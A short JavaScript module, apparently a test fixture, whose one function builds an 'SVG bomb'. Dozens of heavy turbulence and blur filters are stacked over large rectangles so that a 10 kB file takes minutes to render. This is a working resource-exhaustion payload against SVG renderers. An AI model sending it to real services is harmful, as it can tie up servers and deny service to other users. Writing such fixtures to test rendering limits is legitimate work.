/** Nested filters over a large area: minutes of work in 10 kB. */
export const svgBomb = () => {
  const blur = '<feTurbulence baseFrequency="0.01" numOctaves="200"/><feGaussianBlur stdDeviation="400"/>';
  const filter = `<filter id="f" x="0" y="0" width="1" height="1">${blur.repeat(40)}</filter>`;
  return Buffer.from(
    `<svg xmlns="http://www.w3.org/2000/svg" width="1600" height="1600">${filter}${'<rect width="1600" height="1600" filter="url(#f)"/>'.repeat(20)}</svg>`,
  );
};
